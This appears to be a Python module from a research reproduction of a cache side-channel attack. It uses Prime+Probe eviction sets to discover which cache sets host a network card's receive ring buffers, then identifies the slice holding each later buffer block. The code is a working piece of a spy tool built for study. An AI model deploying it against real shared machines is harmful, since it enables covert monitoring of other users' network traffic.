"""Ring-buffer footprint discovery (Section III-B of the paper).

With eviction sets for the 256 page-aligned cache sets in hand, the spy
watches them while the NIC receives traffic.  Sets that light up host ring
buffers (Fig. 7); sets that stay dark host none (~35% of them, Fig. 6).
Once a buffer's block-0 set is known, the sets holding its blocks 1..3 are
found by *trial and error over slices*: the set-index bits of ``base + k*64``
are known, and the right slice is the candidate whose activity co-occurs
with the buffer's block-0 activity (Section IV-b's "trial and error
procedure").
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.attack.evictionset import EvictionSet
from repro.attack.primeprobe import ProbeMonitor, SampleTrace


@dataclass
class DiscoveredSet:
    """One page-aligned cache set observed to host >= 1 ring buffer."""

    group_index: int
    eviction_set: EvictionSet
    activity: float


class RingDiscovery:
    """Finds which page-aligned sets host rx buffers, and block-k sets."""

    def __init__(self, process, page_aligned_groups: list[EvictionSet]) -> None:
        if not page_aligned_groups:
            raise ValueError("no page-aligned groups supplied")
        self.process = process
        self.groups = list(page_aligned_groups)

    def scan(self, n_samples: int, wait_cycles: int) -> SampleTrace:
        """Probe all page-aligned groups for ``n_samples`` sweeps."""
        monitor = ProbeMonitor(self.process, self.groups)
        return monitor.sample(n_samples, wait_cycles)

    def active_sets(
        self, trace: SampleTrace, min_activity: float = 0.02
    ) -> list[DiscoveredSet]:
        """Groups whose activity fraction clears ``min_activity``."""
        out = []
        for idx, fraction in enumerate(trace.activity_fraction()):
            if fraction >= min_activity:
                out.append(
                    DiscoveredSet(
                        group_index=idx,
                        eviction_set=self.groups[idx],
                        activity=fraction,
                    )
                )
        return out

    def idle_vs_receiving(
        self,
        n_samples: int,
        wait_cycles: int,
        start_traffic,
    ) -> tuple[SampleTrace, SampleTrace]:
        """The Fig. 7 experiment: scan idle, then scan while receiving.

        ``start_traffic`` is a callable that attaches/starts the sender.
        """
        idle = self.scan(n_samples, wait_cycles)
        start_traffic()
        receiving = self.scan(n_samples, wait_cycles)
        return idle, receiving

    # ------------------------------------------------------------------
    # Block-set resolution (slice trial and error)
    # ------------------------------------------------------------------
    def resolve_block_set(
        self,
        buffer_block0: EvictionSet,
        candidates: list[EvictionSet],
        n_samples: int,
        wait_cycles: int,
    ) -> EvictionSet:
        """Pick which slice candidate holds block k of a discovered buffer.

        Monitors the buffer's block-0 set together with all slice
        candidates for the block-k index; returns the candidate whose
        activity co-occurs most often with block-0 activity.
        """
        if not candidates:
            raise ValueError("no candidates supplied")
        monitor = ProbeMonitor(self.process, [buffer_block0] + candidates)
        trace = monitor.sample(n_samples, wait_cycles)
        active = trace.samples > 0
        clock_active = active[:, :1]
        totals = active[:, 1:].sum(axis=0, dtype=np.int64)
        co_counts = (active[:, 1:] & clock_active).sum(axis=0, dtype=np.int64)
        # Score: co-occurrence with a penalty for uncorrelated activity, so
        # a busy unrelated set does not win by volume alone.  argmax keeps
        # the first of tied maxima, matching the scalar strictly-greater
        # scan it replaces (pinned in tests/test_analysis_equivalence.py).
        scores = 2 * co_counts - totals
        return candidates[int(np.argmax(scores))]
